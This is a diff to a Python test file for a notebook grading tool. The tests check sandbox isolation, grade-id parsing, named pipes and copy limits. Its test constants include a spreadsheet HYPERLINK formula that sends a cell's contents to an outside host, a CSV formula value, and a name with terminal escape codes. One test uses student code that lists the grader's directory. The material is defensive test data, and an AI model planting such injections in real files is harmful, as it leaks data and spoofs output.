@@ -7,6 +7,7 @@ import hashlib
 import json
 import os
 import re
+import subprocess
 import sys
 from pathlib import Path
 
@@ -16,13 +17,15 @@ from fault_assignment import ALL, NAME, SOLUTIONS, assignment, cell_of
 from test_mark import make_course, mark
 
 from gatescope.grading.commands import printable
-from gatescope.grading.exercises import NotebookError, source_of
-from gatescope.grading.submitted import read_submission
+from gatescope.grading.exercises import LARGEST, NotebookError, grade_id, source_of
+from gatescope.grading.nbgrader_marking import AnyDepth
+from gatescope.grading.submitted import read_submission, written_copy
 
 FORMULA = '=HYPERLINK("example.org?"&B2)'
 PARTED = "anna;=1+1"
 MOVES = "zoe\x1b[2K\x1b[1Aodd: nobody"
 NO_TEXT = os.fsdecode(b"\xff\xfe")
+MARK = (sys.executable, "-m", "gatescope.grading.cli", "mark")
 
 
 def right_one() -> str:
@@ -212,3 +215,60 @@ def test_a_name_that_becomes_a_link_is_not_followed(tmp_path: Path) -> None:
     # What the teacher made may be a link: a course on another disk.
     (tmp_path / "elsewhere").symlink_to(course, target_is_directory=True)
     assert read_submission(tmp_path / "elsewhere" / "student" / NAME / file.name, 3) == b"mine"
+
+
+def test_one_notebook_that_stands_beside_the_class_hands_nothing_of_the_class_to_an_answer(
+    tmp_path: Path,
+) -> None:
+    nbformat.write(assignment(), tmp_path / f"{NAME}.ipynb")
+    (tmp_path / "data.txt").write_text("given")
+    looks = assignment()
+    cell_of(looks, "double").source = (
+        "import { readdirSync } from 'node:fs';\n"
+        "function double(x: number): number {\n  throw new Error(readdirSync('.').join(' '));\n}"
+    )
+    for student, notebook in {"anna": assignment(), "bob": looks}.items():
+        folder = tmp_path / "submitted" / student
+        folder.mkdir(parents=True)
+        nbformat.write(notebook, folder / f"{NAME}.ipynb")
+    said = ["--csv", "points/all.csv", "--feedback", "told", "--out", "results"]
+    (tmp_path / "points").mkdir()
+    for again in ([], ["--of", "bob"]):
+        done = subprocess.run(
+            [*MARK, f"{NAME}.ipynb", "submitted", *said, *again],
+            cwd=tmp_path,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+    [bob] = [json.loads(file.read_text()) for file in (tmp_path / "results").glob("bob*.json")]
+    [found] = [each for each in bob["exercises"] if each["exercise"] == "double"]
+    seen = found["message"].split("(line")[0].removeprefix("Error: ").split()
+    assert sorted(seen) == ["data.txt", "points"]
+
+
+def test_a_grade_id_that_is_no_text_is_none() -> None:
+    for value in (7, ["double"], {"double": 1}, None, True):
+        assert grade_id({"metadata": {"nbgrader": {"grade_id": value}}}) == ""
+
+
+def test_a_pipe_is_an_empty_notebook_to_nbgrader(tmp_path: Path) -> None:
+    pipe = tmp_path / "ps1.ipynb"
+    os.mkfifo(pipe)
+    notebook, resources = AnyDepth().from_filename(str(pipe))
+    assert json.loads(notebook)["cells"] == []
+    assert resources["metadata"]["path"] == str(tmp_path)
+    assert resources["metadata"]["name"] == "ps1"
+
+
+def test_of_large_copies_no_more_are_read_than_one_notebook_may_have(tmp_path: Path) -> None:
+    file = tmp_path / "anna" / "ps1.ipynb"
+    file.parent.mkdir()
+    file.write_text(json.dumps(assignment()))
+    for number in range(1, 6):
+        copy = file.with_name(f"ps1-Copy{number}.ipynb")
+        copy.write_text(right_one() + " " * (LARGEST // 3))
+    chosen, odd = written_copy(file, 1)
+    assert chosen.name == "ps1-Copy5.ipynb"
+    assert "3 more copies of it were not looked at" in odd
